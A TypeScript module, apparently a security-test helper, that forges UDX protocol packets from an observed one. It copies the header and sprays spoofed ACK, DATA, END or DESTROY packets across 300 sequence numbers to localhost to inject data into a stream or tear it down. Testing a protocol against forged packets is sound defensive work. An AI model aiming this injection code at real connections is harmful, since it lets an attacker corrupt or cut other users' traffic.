/** Packets that an attacker forges from one that it has seen: `ff · version · type · data offset · id · window · seq · ack`. */
import dgram from 'node:dgram'

export const UDX = { ACK: 0, DATA: 1, END: 2, DESTROY: 16 } as const

const HEADER_BYTES = 20
const TYPE_AT = 2
const ID_AT = 4
const SEQ_AT = 12
const ACK_AT = 16
/** Number of sequence numbers to try, from the one that was seen. They include those that the stream expects next. */
const AHEAD = 300

/** Returns the receiver's number of the stream that a packet is for. */
export const idOf = (packet: Buffer): number => packet.readUInt32LE(ID_AT)

/** Sends packets of this type from another port, for the stream of `seen`. */
export function forge(seen: Buffer, type: number, port: number): void {
  const socket = dgram.createSocket('udp4')
  const seq = seen.readUInt32LE(SEQ_AT)
  let left = AHEAD
  const sent = () => --left === 0 && socket.close()
  for (let i = 0; i < AHEAD; i++) {
    const payload = Buffer.alloc(type === UDX.DATA ? 300 : 0, 0xaa)
    const packet = Buffer.concat([seen.subarray(0, HEADER_BYTES), payload])
    packet[TYPE_AT] = type
    packet[TYPE_AT + 1] = 0
    packet.writeUInt32LE((seq + i) >>> 0, SEQ_AT)
    if (type === UDX.ACK) packet.writeUInt32LE((seen.readUInt32LE(ACK_AT) + i) >>> 0, ACK_AT)
    socket.send(packet, port, '127.0.0.1', sent)
  }
}
